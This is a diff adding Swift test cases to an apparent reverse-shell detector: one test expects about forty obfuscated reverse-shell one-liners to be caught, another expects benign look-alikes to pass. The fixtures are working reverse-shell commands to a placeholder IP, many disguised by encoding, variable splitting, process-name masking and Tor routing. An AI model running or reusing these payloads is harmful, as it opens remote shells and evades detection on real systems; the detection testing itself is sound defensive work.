@@ -141,6 +141,49 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     #expect(found?.port == 4242)
   }
 
+  /// Quotes, variables and brackets between the shell and the device; wrappings without a mark of their own.
+  @Test(arguments: [
+    "export H=198.51.100.9;export P=4242;bash -i >& \"/dev/tcp/$H/${P}\" 0>&1",
+    "bash${IFS}-i>&/dev/tcp/198.51.100.9/4242<&1", "bash -i >& $'\\x2fdev\\x2ftcp\\x2f198.51.100.9\\x2f4242' 0>&1",
+    "$'\\142\\141\\163\\150' -i >& /dev/tcp/198.51.100.9/4242 0>&1",
+    "x=bash; $x -i >& /dev/tcp/198.51.100.9/4242 0>&1", "a=/dev; b=tcp; bash -i >& $a/$b/198.51.100.9/4242 0>&1",
+    "s=sh;ba$s -i >& /dev/tcp/198.51.100.9/4242 0>&1",
+    "(exec -a \"[kworker]\" bash -i) >& /dev/tcp/198.51.100.9/4242 0>&1",
+    "bash -i &gt;&amp; /dev/tcp/198.51.100.9/4242 0&gt;&amp;1",
+    "bash -c {echo,\(base64(base64("bash -i >& /dev/tcp/198.51.100.9/4242 0>&1")))}|{base64,-d}|{base64,-d}|{bash,-i}",
+    base64("x;bash -i >& /dev/tcp/198.51.100.9/4242 0>&1"),
+    "type=EXECVE argc=3 a0=\"sh\" a1=\"-c\" a2=62617368202D69203E26202F6465762F7463702F3139382E35312E3130302E392F3432343220303E2631",
+    "echo H4sIAAAAAAACA0tKLM5Q0M1UsFNT0E9JLdMvSS7QN7S00DM11DM0MNCz1DcxMjFSMLBTMwQA/2/9AioAAAA= | base64 -d | gunzip | bash",
+    "echo MJQXG2BAFVUSAPRGEAXWIZLWF52GG4BPGE4TQLRVGEXDCMBQFY4S6NBSGQZCAMB6EYYQ==== | base32 -d | sh",
+    "echo 'onfu -v >& /qri/gpc/198.51.100.9/4242 0>&1' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash",
+    "sh -c '$@|sh' . echo bash -i \\>\\& /dev/tcp/198.51.100.9/4242 0\\>\\&1",
+    "exec 6<>/dev/tcp/198.51.100.9/4242;while read -u 6 l;do eval $l >&6 2>&6;done",
+    "exec 3<>/dev/tcp/198.51.100.9/4242;exec 0<&3 1>&3 2>&3;exec bash -i",
+    "deno eval 'const c=await Deno.connect({hostname:\"198.51.100.9\",port:4242});Deno.run({cmd:[\"sh\"]})'",
+    "ncat --sh-exec \"/bin/bash -i\" 198.51.100.9 4242", "nc -c \"/bin/sh -i\" 198.51.100.9 4242",
+    "nc.traditional -e/bin/bash 198.51.100.9 4242", "n'c' -e /bin/sh 198.51.100.9 4242",
+    "cryptcat -e /bin/sh -k key 198.51.100.9 4242", "nc -e /bin/sh 198.51.100.9 -p 4242",
+    "ncat --proxy 10.1.1.1:8080 --proxy-type http 198.51.100.9 4242 -e /bin/sh", "ncat -e python3 198.51.100.9 4242",
+    "coproc nc 198.51.100.9 4242; exec sh <&${COPROC[0]} >&${COPROC[1]} 2>&1", "socat - tcp:198.51.100.9:4242 | sh",
+    "socat SOCKS4A:127.0.0.1:198.51.100.9:4242,socksport=9050 EXEC:sh",
+    "websocat --binary ws://198.51.100.9:4242 exec:/bin/sh", "websocat -E cmd:'bash -i' tcp:198.51.100.9:4242",
+    "node -e \"sh=require('child_process').spawn('sh');c=require('net').createConnection(4242,'198.51.100.9',()=>{c.pipe(sh.stdin)})\"",
+    "struct sockaddr_in a;a.sin_port=htons(4242);a.sin_addr.s_addr=inet_addr(\"198.51.100.9\");connect(s,&a,16);dup2(s,0);dup2(s,1);execve(\"/bin/sh\",0,0);",
+  ])
+  func seesThroughQuotesVariablesAndCodes(text: String) {
+    let found = shells(text).first { $0.kind == .reverseShell }
+    #expect(found?.host == "198.51.100.9")
+    #expect(found?.port == 4242)
+  }
+
+  /// Who starts a wrapped command is named, not what he wraps.
+  @Test func namesTheCarrierOfAWrappedCommand() {
+    let inner = base64("bash -i >& /dev/tcp/198.51.100.9/4242 0>&1")
+    let found = shells("Runtime.getRuntime().exec(\"bash -c {echo,\(inner)}|{base64,-d}|{bash,-i}\")").first
+    #expect(found?.technique == "java")
+    #expect(found?.port == 4242)
+  }
+
   @Test func unwrapsPowerShell() {
     let script = "$c=New-Object Net.Sockets.TCPClient('198.51.100.9',4242);iex $d"
     let wide = Data(script.utf16.flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] }).base64EncodedString()
@@ -164,6 +207,16 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     "for p in 22 80; do (echo >/dev/tcp/$h/$p) && echo $p; done", "sudo nc -lk 514", "xterm -display :0",
     "echo func sync nc", "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"h.example:80\") or exit 1'",
     "ruby -e 'require \"socket\"; puts Socket.gethostname'", "git commit -m 'fix nc -e handling'",
+    "grep -r \"nc -e /bin/sh\" /var/www", "# bash -i >& /dev/tcp/ is how it begins",
+    "new Socket(\"db\", 5432).close(); new ProcessBuilder(\"ls\").start();",
+    "(bash backup.sh) >& /dev/tcp/10.0.0.1/514", "x=5; bash run.sh > \"/dev/tcp/10.0.0.1/514\"",
+    "socat - TCP:10.0.0.1:80 | grep x",
+    "php -r '$f=fsockopen(\"h.example\",465); echo fgets($f); system(\"date\");'",
+    "net=require('net');cp=require('child_process');net.createServer().listen(0,()=>cp.spawn('node',['a.js']))",
+    "cmd := exec.Command(\"ls\"); conn, _ := net.Dial(\"tcp\", addr)",
+    "websocat ws://10.0.0.1:80/feed", "DB=db.example; PORT=5432; timeout 1 bash -c \"</dev/tcp/$DB/$PORT\"",
+    "tcp=80; dev=eth0; sh -c \"ip link show $dev\"",
+    "echo H4sIAAAAAAAAA0vOzy0oSi0uTk0BAMIDcX8KAAAA | base64 -d | gunzip > f",
   ])
   func staysQuiet(text: String) { #expect(shells(text).isEmpty) }
 
